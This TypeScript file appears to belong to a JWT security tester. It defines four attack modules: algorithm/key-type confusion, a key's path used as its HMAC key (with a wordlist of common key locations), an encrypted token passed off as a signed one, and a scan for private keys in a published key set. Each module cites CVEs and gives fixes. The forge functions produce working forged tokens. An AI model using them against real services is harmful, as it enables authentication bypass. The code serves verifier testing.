import type { ForgeContext, Forgery, MaterialAttack, TokenAttack, VariantResult } from '../attack.ts';
import { derEcdsaSignature } from '../der.ts';
import { encodeUtf8 } from '../encoding.ts';
import { writeJwe } from '../jwe-writer.ts';
import type { Jwk } from '../jwk.ts';
import { forgeMac } from '../mac-forgery.ts';
import { signMessage } from '../signatures.ts';
import { freshClaims, joinToken, signerOf, writeInput } from '../unsafe-writer.ts';

/** B12. */
export const keyOfAnotherKind: TokenAttack = {
  kind: 'token',
  id: 'B12',
  title: 'An algorithm of RSA run with a key that is none',
  severity: 'medium',
  cwe: 327,
  source: ['RFC 8725 §3.1', 'RFC 7518 §3.1'],
  how: 'Platforms choose by the key which mathematics to run: given the key of an elliptic curve, a call that says RSA verifies an ECDSA signature. A library that takes the algorithm’s name only for the hash accepts signatures that the name forbids, by key types that were never meant to sign tokens. The tokens name RSA and are signed by the issuer’s key of another kind.',
  victims: [{ what: 'jsonwebtoken < 9.0.0', advisory: 'CVE-2022-23539' }],
  fix: 'Keep a closed table of which type and curve of key each algorithm takes, and check it when the key is made.',
  needs: ['signing-key'],
  needsOne: ['ecdsa-token', 'eddsa-token'],
  expect: 'refused',
  forge: async (context) => {
    const { alg, jwk } = signerOf(context);
    const others = alg.startsWith('ES')
      ? ['RS256', 'RS384', 'RS512', 'PS256']
      : alg.startsWith('Ed')
        ? ['RS256', 'ES256']
        : [];
    return Promise.all(
      others.map(async (other): Promise<Forgery> => {
        const input = writeInput({ ...context.good.header, alg: other }, freshClaims(context));
        // The hash is the one that the name says; the mathematics is the key's.
        const hash = alg.startsWith('ES') ? `ES${other.slice(2)}` : alg;
        const signature = await signMessage(hash, jwk, encodeUtf8(input));
        const isCurve = alg.startsWith('ES');
        const token = joinToken(input, isCurve ? derEcdsaSignature(signature) : signature);
        const key = publicHalf(jwk);
        const encoding = isCurve ? ({ encoding: 'der' } as const) : {};
        return {
          variant: `named-${other.toLowerCase()}`,
          token,
          proof: { kind: 'signature', alg: hash, key, ...encoding },
        };
      }),
    );
  },
};

/** B13. */
export const keyNameAsKey: TokenAttack = {
  kind: 'token',
  id: 'B13',
  title: 'The name of a key used as the key',
  severity: 'critical',
  cwe: 347,
  source: ['RFC 8725 §3.5', 'RFC 7515 §4.1.4'],
  how: 'A program is told where its key lies, and by an error uses that text instead of what lies there. The MAC is then keyed with a path, an address or an identifier, which can be guessed or stand in the token itself. Those that are common, and those that token and key set name, are tried.',
  victims: [{ what: 'lcobucci/jwt, with LocalFileReference and HMAC', advisory: 'CVE-2021-41106' }],
  fix: 'Load keys once, when the program starts, into objects of a type of their own. A text is never a key.',
  needs: [],
  expect: 'refused',
  forge: async (context) => {
    const names = [...new Set([...namesIn(context), ...commonPlaces])];
    return Promise.all(names.map(async (name, at) => forgeMac(context, variantOf(name, at), encodeUtf8(name))));
  },
};

/** What the token says of its key and its issuer. */
function namesIn({ good, keys, keySetUrl }: ForgeContext): readonly string[] {
  const { kid, x5t } = good.header;
  const { iss, aud, client_id: client } = good.payload;
  const issuer = typeof iss === 'string' ? iss.replace(/\/$/, '') : undefined;
  const addresses = issuer === undefined ? [] : [`${issuer}/.well-known/jwks.json`, `${issuer}/jwks`, `${issuer}/`];
  const texts = [
    kid,
    x5t,
    iss,
    ...(Array.isArray(aud) ? aud : [aud]),
    client,
    keySetUrl,
    ...keys.map(({ jwk }) => jwk.kid),
  ];
  return [...texts.filter((text) => typeof text === 'string' && text !== ''), ...addresses] as readonly string[];
}

const commonPlaces: readonly string[] = [
  'public.pem',
  './public.pem',
  'public.key',
  './public.key',
  'keys/public.pem',
  './keys/public.pem',
  'certs/public.pem',
  'config/public.pem',
  'publickey.crt',
  'jwt.key.pub',
  'jwtRS256.key.pub',
  './jwtRS256.key.pub',
  'config/jwt/public.pem',
  'storage/oauth-public.key',
  '/etc/ssl/certs/public.pem',
  '/etc/jwt/public.pem',
  '/app/public.pem',
  '/app/keys/public.pem',
  '/run/secrets/jwt_public_key',
  'file://public.pem',
  'file:///etc/jwt/public.pem',
  'file:///app/public.pem',
  'JWT_SECRET',
  'JWT_PUBLIC_KEY',
  'process.env.JWT_SECRET',
  '$JWT_SECRET',
  '{{JWT_SECRET}}',
  'undefined',
  'null',
  '[object Object]',
  '[object CryptoKey]',
  '[object PublicKeyObject]',
  '[object Promise]',
];

function variantOf(name: string, at: number): string {
  const words = name
    .toLowerCase()
    .replaceAll(/[^a-z\d]+/g, '-')
    .replaceAll(/^-|-$/g, '');
  return /^[a-z-]{2,40}$/.test(words) && commonPlaces.includes(name) ? `name-${at}-${words}` : `name-${at}`;
}

/** B14. */
export const encryptedInsteadOfSigned: TokenAttack = {
  kind: 'token',
  id: 'B14',
  title: 'A token that is encrypted to the public key, taken for a signed one',
  severity: 'critical',
  cwe: 347,
  source: ['RFC 8725 §2.3', 'RFC 8725 §3.3', 'RFC 7516 §9'],
  how: 'Some functions decode whatever they are given: a signed token is verified, an encrypted one decrypted, with the one key pair that they were given. Everybody can encrypt to a public key, so what decrypts proves nothing of who wrote it. The claims are encrypted to the issuer’s signing key.',
  victims: [{ what: 'json-jwt < 1.16.6', advisory: 'CVE-2023-51774' }],
  fix: 'Call one function for signed tokens and another for encrypted ones, each refusing the form of the other. Give a verifier the public half alone: it has nothing to decrypt with.',
  needs: [],
  needsOne: ['rsa-public-key', 'ec-public-key'],
  expect: 'refused',
  forge: async (context) => {
    const key = context.keys[0];
    if (key === undefined || key.kind === 'ed') return [];
    const { kid, typ } = context.good.header;
    const inner = JSON.stringify(freshClaims(context));
    const algorithms = key.kind === 'rsa' ? ['RSA-OAEP', 'RSA-OAEP-256'] : ['ECDH-ES'];
    const wanted = algorithms.flatMap((alg) => ['A128GCM', 'A128CBC-HS256', 'A256GCM'].map((enc) => ({ alg, enc })));
    return Promise.all(
      wanted.map(async ({ alg, enc }): Promise<Forgery> => {
        const variant = `${alg}-${enc}`.toLowerCase();
        const token = await writeJwe({ alg, enc, key: key.jwk, plaintext: inner, header: { kid, typ } });
        return { variant, token, proof: { kind: 'encrypted', key: key.jwk, inner } };
      }),
    );
  },
};

/** B15. */
export const privateKeyPublished: MaterialAttack = {
  kind: 'material',
  id: 'B15',
  title: 'The key set publishes a private or a symmetric key',
  severity: 'critical',
  cwe: 312,
  source: ['RFC 7517 §9.2', 'RFC 7517 §5'],
  how: 'A key set is for everybody. Where a program writes its whole key into it, the private members go along, and whoever reads the set signs tokens as the issuer does. A symmetric key in it is the same: there is no public half.',
  victims: [],
  fix: 'Write key sets from public keys alone, member by member, and check what is served. A key that stood there is burnt: replace it, and revoke what it signed.',
  needs: ['key-set'],
  examine: ({ keySetText = '' }) => {
    const found: readonly (readonly [string, boolean, string])[] = [
      ['private-member', keysOf(keySetText).some(hasPrivateMember), 'a key of the set has private members'],
      [
        'symmetric-key',
        keysOf(keySetText).some(({ kty, k }) => kty === 'oct' || k !== undefined),
        'the set holds a symmetric key',
      ],
      ['private-pem', /-----BEGIN [A-Z ]*PRIVATE KEY/.test(keySetText), 'the document holds a private key as PEM'],
    ];
    return found.map(
      ([variant, isThere, reason]): VariantResult =>
        isThere ? { variant, verdict: 'accepted', reason } : { variant, verdict: 'refused' },
    );
  },
};

function hasPrivateMember(jwk: Jwk): boolean {
  return (['d', 'p', 'q', 'dp', 'dq', 'qi'] as const).some((member) => jwk[member] !== undefined);
}

function keysOf(text: string): readonly Jwk[] {
  try {
    const { keys } = JSON.parse(text) as { readonly keys?: unknown };
    return Array.isArray(keys) ? keys.filter((key): key is Jwk => typeof key === 'object' && key !== null) : [];
  } catch {
    return [];
  }
}

function publicHalf({ kty, n, e, crv, x, y }: Jwk): Jwk {
  return Object.fromEntries(Object.entries({ kty, n, e, crv, x, y }).filter(([, value]) => value !== undefined));
}
